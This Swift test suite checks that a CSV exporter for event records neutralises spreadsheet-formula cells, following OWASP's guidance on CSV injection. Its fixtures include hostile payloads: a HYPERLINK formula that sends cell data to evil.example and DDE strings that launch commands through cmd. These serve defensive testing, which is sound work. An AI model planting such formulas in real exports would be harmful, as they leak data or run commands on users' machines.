import EventModel
import EventStore
import Foundation
import Reports
import Testing

/// CSV for spreadsheets: cells a spreadsheet would run as formulas are neutralised (OWASP).
@Suite struct EventCSVTests {
    @Test(arguments: [
        ("=1+1", #""'=1+1""#),
        (#"=HYPERLINK("http://evil.example/?"&A1,"open")"#, #""'=HYPERLINK(""http://evil.example/?""&A1,""open"")""#),
        ("+cmd|' /C calc'!A0", #""'+cmd|' /C calc'!A0""#),
        ("-2+3+cmd|' /C calc'!A0", #""'-2+3+cmd|' /C calc'!A0""#),
        ("@SUM(1+1)*cmd|' /C calc'!A0", #""'@SUM(1+1)*cmd|' /C calc'!A0""#),
        ("\t=1", "\"'\t=1\""),
        ("\r=1", "\"'\r=1\""),
        ("-", #""'-""#),
        ("-1.", #""'-1.""#),
    ])
    func formulaCellsAreQuotedWithALeadingQuote(cell: String, written: String) {
        #expect(EventCSV().cell(cell) == written)
        #expect(!EventCSV(neutralizesFormulas: false).cell(cell).hasPrefix("\"'"), "raw cells get no quote in front")
    }

    @Test(arguments: ["-1", "+2.5", "-100", "0", "a=b", "/usr/bin/ps", "syscall=SYS_OPENAT fd=-100", ""])
    func otherCellsAreUnchanged(cell: String) {
        #expect(EventCSV().cell(cell) == cell)
    }

    @Test func rawCellsAreOnlyQuotedForSeparators() {
        let raw = EventCSV(neutralizesFormulas: false)
        #expect(raw.cell("=1+1") == "=1+1")
        #expect(raw.cell("=A1,B1") == "\"=A1,B1\"")
    }

    @Test func rowsNeutraliseEveryCell() {
        var event = Event()
        event.processName = "=cmd|' /C calc'!A0"
        event.resource = "@x, y"
        event.hostPID = 42
        let row = EventCSV().row(event, [.field(.processName), .field(.resource), .field(.hostPID)])
        #expect(row == "\"'=cmd|' /C calc'!A0\",\"'@x, y\",42\r\n")
    }

    /// The batch path writes, row for row, what the record path writes, hostile cells and extras included.
    @Test func batchRowsAreTheRecordRows() throws {
        let path = NSTemporaryDirectory() + "rearview-csv-" + UUID().uuidString
        defer { try? FileManager.default.removeItem(atPath: path) }
        var options = WriterOptions()
        options.blockEvents = 250
        let writer = try StoreWriter(path: path, options: options)
        var events = GroupCountsTests.events(1000)
        events[7].processName = "=cmd|' /C calc'!A0"
        events[10].resource = "a,\"b\"\r\nc"
        events[13].timeNs = 0
        try writer.append(events)
        try writer.close()
        let store = try Store.open(path)
        let columns = EventField.allCases.map(EventColumn.field) + [.time, .timeNs, .seq, .extra("cluster_id")]
        for csv in [EventCSV(), EventCSV(neutralizesFormulas: false)] {
            var byBatch: [UInt8] = [], byRecord = ""
            for block in try store.blocks() {
                let batch = try store.batch(in: block)
                let rows = (0..<Int32(batch.count)).filter { $0 % 5 != 4 }
                csv.append(batch, rows: rows, columns: columns, to: &byBatch)
                for event in batch.events(at: rows) { byRecord += csv.row(event, columns) }
            }
            #expect(byRecord.contains(csv.neutralizesFormulas ? "\"'=cmd" : ",=cmd") && byRecord.contains("a,\"\"b\"\"") && byRecord.contains(csv.neutralizesFormulas ? ",\"'-\"," : ",-,"))
            #expect(String(decoding: byBatch, as: UTF8.self) == byRecord)
        }
    }
}
